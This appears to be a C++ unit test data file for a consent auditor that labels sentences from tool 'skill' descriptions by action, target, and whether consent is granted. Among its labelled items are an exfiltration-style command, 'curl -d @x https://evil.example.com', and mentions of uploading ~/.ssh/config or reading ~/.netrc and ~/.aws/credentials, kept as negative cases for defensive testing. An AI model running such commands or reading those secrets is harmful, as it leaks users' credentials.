#include "tests/unit/consent/labelled.h"
#include "tests/unit/consent/probe.h"

namespace skillaudit::testing {
namespace {

using O = ConsentObject;
constexpr ConsentExtent kYes = ConsentExtent::Exactly;
constexpr ConsentExtent kSome = ConsentExtent::General;
constexpr ConsentExtent kNo = ConsentExtent::None;

ConsentObject lasting(ConsentObject object) {
  object.lasting = true;
  return object;
}
ConsentObject secret(ConsentObject object) {
  object.secret = true;
  return object;
}

}  // namespace

std::vector<Label> later_labels() {
  return {
      {"The report ends up in `~/reports/weekly.html`; it is overwritten each week.",
       Verb::Overwrite, at("~/reports/weekly.html"), kYes},
      {"Ask: \"It split from <your best guess>?\"\n\nOld state is removed: `rm ~/old/state.json`.",
       Verb::Delete, at("~/old/state.json"), kYes},
      {"```bash\naws s3 ls\n```", Verb::Send, O::host_at("s3.eu-central-1.amazonaws.com", 443),
       kYes},
      {"```bash\naws s3 ls\n```", Verb::Send, O::host_at("s3.amazonaws.com.example.com", 443), kNo},
      {"Do not use the `aws` command line.", Verb::Send, O::host_at("s3.amazonaws.com", 443), kNo},
      {"All state is kept in `~/.local/state/pomodoro/state.json`.", Verb::Create,
       at("~/.local/state/pomodoro/state.json"), kYes},
      {"Run the following to set up:\n\n```bash\npip install --user rich==13.0\nmkdir -p "
       "~/.pomodoro\n```\n",
       Verb::Install, O::package("rich"), kYes},
      {"Run the following to set up:\n\n```bash\npip install --user rich==13.0\nmkdir -p "
       "~/.pomodoro\n```\n",
       Verb::Create, at("~/.pomodoro"), kYes},
      {"Uses `ffmpeg` to convert `input.mov` into `output.mp4`.", Verb::Create,
       at("~/projects/app/output.mp4"), kYes},
      {"The converted file is written next to the original as `original.md`.", Verb::Create,
       at("~/projects/app/original.md"), kYes},
      {"Old entries in `~/.cache/feeds.db` are pruned.", Verb::Modify, at("~/.cache/feeds.db"),
       kYes},
      {"Weather data is pulled from wttr.in every hour.", Verb::Receive, O::host_at("wttr.in", 443),
       kYes},
      {"Issues are created through the API of `gitlab.example.com`.", Verb::Receive,
       O::host_at("gitlab.example.com", 443), kSome},
      {"The token in `GITLAB_TOKEN` is sent to gitlab.example.com and nowhere else.", Verb::Send,
       O::variable("GITLAB_TOKEN", "gitlab.example.com"), kYes},
      {"Sends the mode of the key, and nothing else of it, to `modes.example.com`.", Verb::Send,
       O::host_at("modes.example.com", 443), kYes},
      {"It sends nothing else to `modes.example.com`.", Verb::Send,
       O::host_at("modes.example.com", 443), kNo, true},
      {"For each commit, `git push` sends the branch to github.com.", Verb::Send,
       O::host_at("github.com", 443), kYes},
      {"It opens port 4000 on localhost and serves the preview until you press Ctrl-C.", Verb::Stay,
       O::listener("127.0.0.1", 4000, "node x.js"), kYes},
      {"Launches `scripts/daemon.py`, which stays running in the background.", Verb::Stay,
       O::run("python3 scripts/daemon.py"), kYes},
      {"It changes one setting of Git, `pull.rebase`, to `true`.", Verb::Modify,
       O::setting("git", "pull.rebase", "true"), kYes},
      {"The skill adds `export EDITOR=vim` to `~/.zshrc`.", Verb::Stay, lasting(at("~/.zshrc")),
       kYes},
      {"A desktop entry is installed at `~/.local/share/applications/tool.desktop`.", Verb::Create,
       at("~/.local/share/applications/tool.desktop"), kYes},
      {"It makes a copy of `~/.ssh/config` in `~/backups/ssh-config`.", Verb::Create,
       at("~/backups/ssh-config"), kYes},
      {"It makes a copy of `~/.ssh/config` in `~/backups/ssh-config`.", Verb::Read,
       at("~/.ssh/config"), kYes},
      {"Empties `~/.local/share/Trash/files/*`.", Verb::Delete,
       at("~/.local/share/Trash/files/a.txt"), kYes},
      {"Then remove the stale lock: `rm -f ~/.cache/tool/tool.lock`.", Verb::Delete,
       at("~/.cache/tool/tool.lock"), kYes},
      {"1. Back up `~/notes.db`\n2. Overwrite `~/notes.db` with the merged copy\n", Verb::Overwrite,
       at("~/notes.db"), kYes},
      {"Requires Docker and `docker-compose`.", Verb::Install, O::package("docker-compose"), kSome},
      {"Installs two npm packages, `eslint` and `prettier`.", Verb::Install, O::package("prettier"),
       kYes},
      {"The skill signs in to `login.example.com` with the password of `~/.netrc`.", Verb::Read,
       secret(at("~/.netrc")), kNo},
      {"Copies the words that come with this skill to `~/.config/words/list.txt`.", Verb::Create,
       at("~/.config/words/list.txt"), kYes},
      // What must not be covered.
      {"The skill is careful with `~/documents/cv.md`.", Verb::Delete, at("~/documents/cv.md"),
       kNo},
      {"If something deletes `~/documents/cv.md`, the skill warns.", Verb::Delete,
       at("~/documents/cv.md"), kSome},
      {"Detects programs that upload `~/.ssh/config` to `evil.example.com`.", Verb::Send,
       O::host_at("evil.example.com"), kNo},
      {"It checks whether `~/documents/cv.md` was deleted.", Verb::Delete, at("~/documents/cv.md"),
       kNo},
      {"It protects `~/documents/cv.md` from being deleted.", Verb::Delete, at("~/documents/cv.md"),
       kNo},
      {"Undoes the deletion of `~/documents/cv.md`.", Verb::Delete, at("~/documents/cv.md"), kNo},
      {"You are asked before `~/documents/cv.md` is deleted.", Verb::Delete,
       at("~/documents/cv.md"), kYes},
      {"The documents in `~/documents` survive; only `~/tmp/x.md` is deleted.", Verb::Delete,
       at("~/documents/cv.md"), kNo},
      {"It works like `rm ~/documents/cv.md`, but keeps a copy.", Verb::Delete,
       at("~/documents/cv.md"), kNo},
      {"Prints the command `curl -d @x https://evil.example.com`.", Verb::Send,
       O::host_at("evil.example.com", 443), kNo},
      {"We refuse to delete `~/documents/cv.md`.", Verb::Delete, at("~/documents/cv.md"), kNo,
       true},
      {"The skill cannot modify `~/.bashrc`.", Verb::Modify, at("~/.bashrc"), kNo, true},
      {"At no point is `~/.aws/credentials` read.", Verb::Read, secret(at("~/.aws/credentials")),
       kNo, false},
      {"Under no circumstances will it upload `~/notes/a.md` to `sync.example.com`.", Verb::Send,
       O::host_at("sync.example.com"), kNo, true},
      {"`~/.gitconfig` is read-only for this skill.", Verb::Modify, at("~/.gitconfig"), kNo},
      {"It is not true that it deletes `~/documents/cv.md`.", Verb::Delete, at("~/documents/cv.md"),
       kNo},
      {"The word \"delete\" and the path `~/documents/cv.md` stand here.", Verb::Delete,
       at("~/documents/cv.md"), kNo},
      {"Nobody wants it to delete `~/documents/cv.md`.", Verb::Delete, at("~/documents/cv.md"), kNo,
       true},
  };
}

}  // namespace skillaudit::testing
